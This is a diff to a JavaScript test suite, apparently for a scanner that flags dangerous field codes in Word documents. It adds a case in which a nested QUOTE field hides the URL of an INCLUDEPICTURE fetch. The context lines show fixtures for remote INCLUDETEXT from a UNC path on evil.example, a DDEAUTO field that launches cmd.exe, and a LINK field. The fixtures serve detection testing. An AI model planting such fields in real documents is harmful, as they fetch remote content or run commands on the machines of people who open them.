@@ -162,6 +162,13 @@ describe('a file inspected completely', () => {
         `</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText>"http://evil.example/a.png"`,
       ),
     ],
+    [
+      'has a field that fetches what a nested field names',
+      field(
+        'INCLUDEPICTURE "',
+        `</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE "http://evil.example/a.png"</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText>"`,
+      ),
+    ],
     ['has a field that includes from a server', field(' INCLUDETEXT "\\\\\\\\evil.example\\\\a.docx" ')],
     ['has a field that starts a program', field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')],
     ['has such a field in short form', withText('<w:fldSimple w:instr="LINK Word.Document.8 http://evil.example/a"/>')],
